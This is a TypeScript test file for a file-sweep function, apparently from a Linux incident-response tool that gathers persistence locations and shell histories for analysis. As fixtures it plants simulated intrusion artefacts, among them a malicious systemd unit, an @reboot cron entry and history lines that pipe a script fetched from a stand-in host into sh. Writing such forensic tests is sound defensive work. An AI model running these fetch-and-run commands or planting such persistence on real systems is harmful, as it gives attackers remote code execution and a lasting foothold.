import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FakeRoot } from '../../../test/helpers/fake-proc.js';
import { WarningSink } from '../../model/errors.js';
import { sweepFiles } from './sweep.js';

function plant(root: string, path: string, content: string | Buffer): void {
  mkdirSync(join(root, path, '..'), { recursive: true });
  writeFileSync(join(root, path), content);
}

describe('sweepFiles', () => {
  let fake: FakeRoot;
  afterEach(() => fake.cleanup());

  it('reads persistence places of the system and of every home, with their kind and host path', () => {
    fake = new FakeRoot();
    writeFileSync(
      join(fake.root, 'etc/passwd'),
      'root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n',
    );
    plant(fake.root, 'etc/crontab', '* * * * * root run-parts /etc/cron.hourly\n');
    plant(fake.root, 'var/spool/cron/crontabs/root', '@reboot /root/.x/start\n');
    plant(fake.root, 'etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/.k/k\n');
    plant(fake.root, 'etc/systemd/system/notes.txt', 'not a unit');
    plant(fake.root, 'home/alice/.ssh/authorized_keys', 'ssh-rsa AAAA alice@laptop\n');
    plant(fake.root, 'root/.bashrc', 'alias ll="ls -l"\n');
    plant(fake.root, 'dev/shm/.x/config.json', '{"pools":[]}');
    plant(fake.root, 'tmp/a/b/c/d/too-deep', 'x');
    const files = sweepFiles(fake.root, new WarningSink());
    const byPath = new Map(files.map((f) => [f.path, f.kind]));
    expect(byPath.get('/etc/crontab')).toBe('cron');
    expect(byPath.get('/var/spool/cron/crontabs/root')).toBe('cron');
    expect(byPath.get('/etc/systemd/system/evil.service')).toBe('systemd');
    expect(byPath.has('/etc/systemd/system/notes.txt')).toBe(false);
    expect(byPath.get('/home/alice/.ssh/authorized_keys')).toBe('authorized_keys');
    expect(byPath.get('/root/.bashrc')).toBe('shell-rc');
    expect(byPath.get('/dev/shm/.x/config.json')).toBe('writable-dir');
    expect(byPath.get('/etc/passwd')).toBe('passwd');
    expect(byPath.has('/tmp/a/b/c/d/too-deep')).toBe(false);
  });

  it('caps bytes per file and files in all, and says so', () => {
    fake = new FakeRoot();
    plant(fake.root, 'tmp/big', Buffer.alloc(1024 * 1024, 0x41));
    for (let i = 0; i < 30; i++) plant(fake.root, `var/tmp/f${i}`, 'x');
    const warnings = new WarningSink();
    const files = sweepFiles(fake.root, warnings, { maxBytes: 1000, maxFiles: 10 });
    expect(files).toHaveLength(10);
    const big = sweepFiles(fake.root, new WarningSink(), { maxBytes: 1000 }).find(
      (f) => f.path === '/tmp/big',
    );
    expect(big).toMatchObject({ truncated: true, size: 1024 * 1024 });
    expect(big?.content).toHaveLength(1000);
    expect(warnings.items.map((w) => w.code)).toContain('MW_W_FILE_UNREADABLE');
  });

  it('marks ELF files', () => {
    fake = new FakeRoot();
    plant(fake.root, 'tmp/.x/bin', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]));
    expect(sweepFiles(fake.root, new WarningSink()).find((f) => f.path === '/tmp/.x/bin')?.elf).toBe(true);
  });

  it('reads shell histories of every home and root, the latest commands of a long one with their line numbers', () => {
    fake = new FakeRoot();
    writeFileSync(
      join(fake.root, 'etc/passwd'),
      'root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n',
    );
    plant(fake.root, 'root/.bash_history', 'ls\ncurl http://x/a | sh\n');
    plant(fake.root, 'home/alice/.zsh_history', ': 1700000000:0;ls\n');
    plant(fake.root, 'home/bob/.ash_history', 'id\n');
    // 100,000 numbered lines, the last one the dropper's: far over the cap, so only the tail is read
    const lines = Array.from({ length: 100_000 }, (_, i) => `echo line ${i + 1}`);
    lines[99_999] = 'wget -qO- http://x/k.sh | sh';
    plant(fake.root, 'home/alice/.bash_history', `${lines.join('\n')}\n`);
    const files = sweepFiles(fake.root, new WarningSink(), { maxBytes: 4096 });
    const byPath = new Map(files.map((f) => [f.path, f]));
    expect(byPath.get('/root/.bash_history')).toMatchObject({ kind: 'shell-history', firstLine: 1 });
    expect(byPath.get('/home/alice/.zsh_history')?.kind).toBe('shell-history');
    expect(byPath.get('/home/bob/.ash_history')?.kind).toBe('shell-history');
    const long = byPath.get('/home/alice/.bash_history');
    expect(long?.truncated).toBe(true);
    expect(long?.content.length).toBeLessThanOrEqual(4096);
    const tail = long?.content.split('\n') ?? [];
    // starts on a whole line, and firstLine is that line's number in the file
    expect(tail[0]).toBe(`echo line ${long?.firstLine}`);
    expect(tail.at(-2)).toBe('wget -qO- http://x/k.sh | sh');
    expect((long?.firstLine ?? 0) + tail.length - 2).toBe(100_000);
  });

  it('leaves line numbers unknown when counting them would mean reading too much', () => {
    fake = new FakeRoot();
    plant(fake.root, 'root/.bash_history', Buffer.alloc(64 * 1024, 0x0a));
    const f = sweepFiles(fake.root, new WarningSink(), { maxBytes: 1024, maxLineCountBytes: 4096 }).find(
      (x) => x.path === '/root/.bash_history',
    );
    expect(f).toMatchObject({ kind: 'shell-history', truncated: true, firstLine: null });
    expect(f?.content.length).toBeLessThanOrEqual(1024);
  });
});
